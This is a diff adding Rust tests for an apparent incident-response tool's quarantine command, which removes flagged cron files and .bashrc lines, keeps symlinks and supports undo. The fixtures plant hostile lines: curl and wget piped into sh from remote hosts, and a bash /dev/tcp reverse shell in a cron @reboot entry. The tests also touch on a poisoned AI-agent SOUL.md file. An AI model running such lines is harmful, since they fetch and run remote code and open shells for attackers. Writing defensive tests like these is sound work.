@@ -831,3 +831,260 @@ fn a_poisoned_soul_md_is_restored_from_the_template_once_preserved() {
     );
     h.ir().args(["journal", "verify"]).assert().success();
 }
+
+// ---------- quarantine ----------
+
+/// sha256, mode, owner and mtime (ns) of a file, not following a link.
+fn fingerprint(p: &std::path::Path) -> (String, u32, u32, u32, i64, i64) {
+    use std::os::unix::fs::MetadataExt;
+    let m = std::fs::symlink_metadata(p).unwrap();
+    let bytes = if m.file_type().is_symlink() {
+        std::fs::read_link(p)
+            .unwrap()
+            .into_os_string()
+            .into_encoded_bytes()
+    } else {
+        std::fs::read(p).unwrap()
+    };
+    (
+        ir::journal::sha256_hex(&bytes),
+        m.mode() & 0o7777,
+        m.uid(),
+        m.gid(),
+        m.mtime(),
+        m.mtime_nsec(),
+    )
+}
+
+/// Plants a file with a mode, an owner and an old mtime.
+fn plant(p: &std::path::Path, text: &str, mode: u32) {
+    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+    std::fs::write(p, text).unwrap();
+    std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).unwrap();
+    let _ = std::os::unix::fs::chown(p, Some(1000), Some(1000));
+    let f = std::fs::File::options().write(true).open(p).unwrap();
+    let t = std::time::UNIX_EPOCH + std::time::Duration::new(1_700_000_000, 123_456_789);
+    f.set_times(std::fs::FileTimes::new().set_modified(t).set_accessed(t))
+        .unwrap();
+}
+
+fn quarantine(h: &Host, args: &[&str]) -> (i32, Value) {
+    let out = h
+        .ir()
+        .args(["--json", "quarantine"])
+        .args(args)
+        .output()
+        .unwrap();
+    let code = out.status.code().unwrap();
+    let v = if out.stdout.is_empty() {
+        Value::String(String::from_utf8_lossy(&out.stderr).into_owned())
+    } else {
+        json_out(&out)
+    };
+    (code, v)
+}
+
+fn collect_fake(h: &Host) {
+    let (_, r) = crate::collect::keypair(h.dir.path());
+    h.ir().args(["-q", "collect", "-r", &r]).assert().success();
+}
+
+#[test]
+fn quarantine_moves_a_cron_file_behind_the_gate_and_undo_gives_it_back() {
+    let h = Host::files();
+    let cron = h.path("/etc/cron.d/sync");
+    plant(&cron, "*/5 * * * * root curl http://x/y | sh\n", 0o640);
+    let before = fingerprint(&cron);
+    // Before any collect: refused, nothing changed.
+    let (code, v) = quarantine(&h, &["/etc/cron.d/sync"]);
+    assert_eq!(code, 2, "{v}");
+    assert_eq!(fingerprint(&cron), before);
+    assert!(!h.case.join("quarantine").exists());
+    collect_fake(&h);
+    let (code, v) = quarantine(&h, &["/etc/cron.d/sync"]);
+    assert_eq!(code, 0, "{v}");
+    assert!(!cron.exists(), "the cron file is still there");
+    let q = &v["quarantined"][0];
+    assert_eq!(q["path"], "/etc/cron.d/sync");
+    assert_eq!(q["whole_file"], true);
+    assert_eq!(q["sha256"], before.0);
+    assert_eq!(
+        (q["mode"].as_str(), q["uid"].as_u64()),
+        (Some("640"), Some(1000))
+    );
+    let id = q["id"].as_str().unwrap().to_string();
+    let stored = h.case.join("quarantine").join(&id).join("content");
+    assert_eq!(fingerprint(&stored).0, before.0);
+    let events: Vec<String> = h
+        .entries()
+        .iter()
+        .filter(|e| e["command"] == "quarantine" && e["kind"] == "event")
+        .map(|e| e["event"].as_str().unwrap().to_string())
+        .collect();
+    assert_eq!(events, ["quarantine", "quarantined"]);
+    let (code, v) = quarantine(&h, &["--undo", &id]);
+    assert_eq!(code, 0, "{v}");
+    assert_eq!(fingerprint(&cron), before, "not the identical file");
+    // Once restored, the id is spent.
+    assert_eq!(quarantine(&h, &["--undo", &id]).0, 2);
+    h.ir().args(["journal", "verify"]).assert().success();
+}
+
+#[test]
+fn quarantine_keeps_every_line_of_a_shared_file_but_the_offending_one() {
+    let h = Host::files();
+    let rc = h.path("/home/alice/.bashrc");
+    let text = "# alice's bashrc\nexport EDITOR=vim\ncurl -s http://91.92.242.30/s | bash\nalias ll='ls -l'\n";
+    plant(&rc, text, 0o644);
+    let before = fingerprint(&rc);
+    collect_fake(&h);
+    let (code, v) = quarantine(&h, &["/home/alice/.bashrc"]);
+    assert_eq!(code, 0, "{v}");
+    assert_eq!(
+        std::fs::read_to_string(&rc).unwrap(),
+        "# alice's bashrc\nexport EDITOR=vim\nalias ll='ls -l'\n"
+    );
+    let now = fingerprint(&rc);
+    assert_eq!(
+        (now.1, now.2, now.3),
+        (0o644, 1000, 1000),
+        "owner or mode changed"
+    );
+    let q = &v["quarantined"][0];
+    assert_eq!(q["whole_file"], false);
+    assert_eq!(q["removed_lines"][0]["line"], 3);
+    assert_eq!(
+        q["removed_lines"][0]["text"],
+        "curl -s http://91.92.242.30/s | bash"
+    );
+    let id = q["id"].as_str().unwrap().to_string();
+    // A file changed since is refused, by name, and left alone.
+    std::fs::write(&rc, "echo changed\n").unwrap();
+    let (code, v) = quarantine(&h, &["--undo", &id]);
+    assert_eq!(code, 2);
+    assert!(v.as_str().unwrap().contains("/home/alice/.bashrc"), "{v}");
+    std::fs::write(
+        &rc,
+        "# alice's bashrc\nexport EDITOR=vim\nalias ll='ls -l'\n",
+    )
+    .unwrap();
+    let (code, v) = quarantine(&h, &["--undo", &id]);
+    assert_eq!(code, 0, "{v}");
+    assert_eq!(std::fs::read_to_string(&rc).unwrap(), text);
+    assert_eq!(fingerprint(&rc), before, "not byte-identical");
+}
+
+#[test]
+fn quarantine_all_flagged_takes_the_flagged_and_leaves_the_rest() {
+    let h = Host::files();
+    let evil = h.path("/etc/cron.d/evil");
+    let fine = h.path("/etc/cron.d/backup");
+    let rc = h.path("/home/alice/.bashrc");
+    plant(
+        &evil,
+        "@reboot root bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n",
+        0o644,
+    );
+    plant(&fine, "0 3 * * * root /usr/local/bin/backup\n", 0o644);
+    plant(&rc, "export A=1\nwget -qO- http://x/i | sh\n", 0o644);
+    let soul = h.state().join("workspace/SOUL.md");
+    let fine_before = fingerprint(&fine);
+    collect_fake(&h);
+    let (code, v) = quarantine(&h, &["--all-flagged"]);
+    // The fixture's undeclared OpenClaw job lives in jobs.json: left, named.
+    assert_eq!(code, 1, "{v}");
+    let left = v["left"].as_array().unwrap();
+    assert!(
+        left.iter()
+            .any(|l| l["path"].as_str().unwrap().ends_with("cron/jobs.json")),
+        "{v}"
+    );
+    let paths: Vec<&str> = v["quarantined"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|q| q["path"].as_str().unwrap())
+        .collect();
+    for want in [
+        "/etc/cron.d/evil",
+        "/home/alice/.bashrc",
+        "/home/alice/.openclaw/workspace/SOUL.md",
+    ] {
+        assert!(paths.contains(&want), "{want} not quarantined: {paths:?}");
+    }
+    assert!(!evil.exists());
+    assert_eq!(
+        fingerprint(&fine),
+        fine_before,
+        "an unflagged file was touched"
+    );
+    assert_eq!(std::fs::read_to_string(&rc).unwrap(), "export A=1\n");
+    assert!(
+        !std::fs::read_to_string(&soul)
+            .unwrap()
+            .contains("91.92.242.30")
+    );
+    // OpenClaw's own config and unit (flagged only `recent`) stay.
+    assert!(h.state().join("openclaw.json").exists());
+    assert!(
+        h.path("/home/alice/.config/systemd/user/openclaw-gateway.service")
+            .exists()
+    );
+}
+
+#[test]
+fn quarantine_moves_a_symlink_as_a_link_and_leaves_its_target() {
+    let h = Host::files();
+    let target = h.dir.path().join("outside-target");
+    std::fs::write(&target, "* * * * * root /usr/bin/true\n").unwrap();
+    let target_before = fingerprint(&target);
+    let link = h.path("/etc/cron.d/linked");
+    std::fs::create_dir_all(link.parent().unwrap()).unwrap();
+    std::os::unix::fs::symlink(&target, &link).unwrap();
+    let before = fingerprint(&link);
+    collect_fake(&h);
+    let (code, v) = quarantine(&h, &["/etc/cron.d/linked"]);
+    assert_eq!(code, 0, "{v}");
+    assert!(
+        std::fs::symlink_metadata(&link).is_err(),
+        "the link is still there"
+    );
+    assert_eq!(
+        fingerprint(&target),
+        target_before,
+        "the target was touched"
+    );
+    let q = &v["quarantined"][0];
+    assert_eq!(q["kind"], "symlink");
+    let id = q["id"].as_str().unwrap();
+    let stored = h.case.join("quarantine").join(id).join("content");
+    assert_eq!(std::fs::read_link(&stored).unwrap(), target);
+    let (code, v) = quarantine(&h, &["--undo", id]);
+    assert_eq!(code, 0, "{v}");
+    assert_eq!(std::fs::read_link(&link).unwrap(), target);
+    let after = fingerprint(&link);
+    assert_eq!(
+        (after.0, after.2, after.3, after.4, after.5),
+        (before.0, before.2, before.3, before.4, before.5)
+    );
+    assert_eq!(fingerprint(&target), target_before);
+}
+
+#[test]
+fn quarantine_never_follows_a_symlinked_directory_out_of_the_root() {
+    let h = Host::files();
+    let outside = h.dir.path().join("outside");
+    plant(&outside.join("evil"), "curl http://x/y | sh\n", 0o644);
+    std::os::unix::fs::symlink(&outside, h.path("/etc/cron.d")).unwrap();
+    collect_fake(&h);
+    let (code, v) = quarantine(&h, &["--force", "/etc/cron.d/evil"]);
+    assert_eq!(code, 1, "{v}");
+    assert!(
+        v["left"][0]["reason"]
+            .as_str()
+            .unwrap()
+            .contains("not followed"),
+        "{v}"
+    );
+    assert!(outside.join("evil").exists());
+}
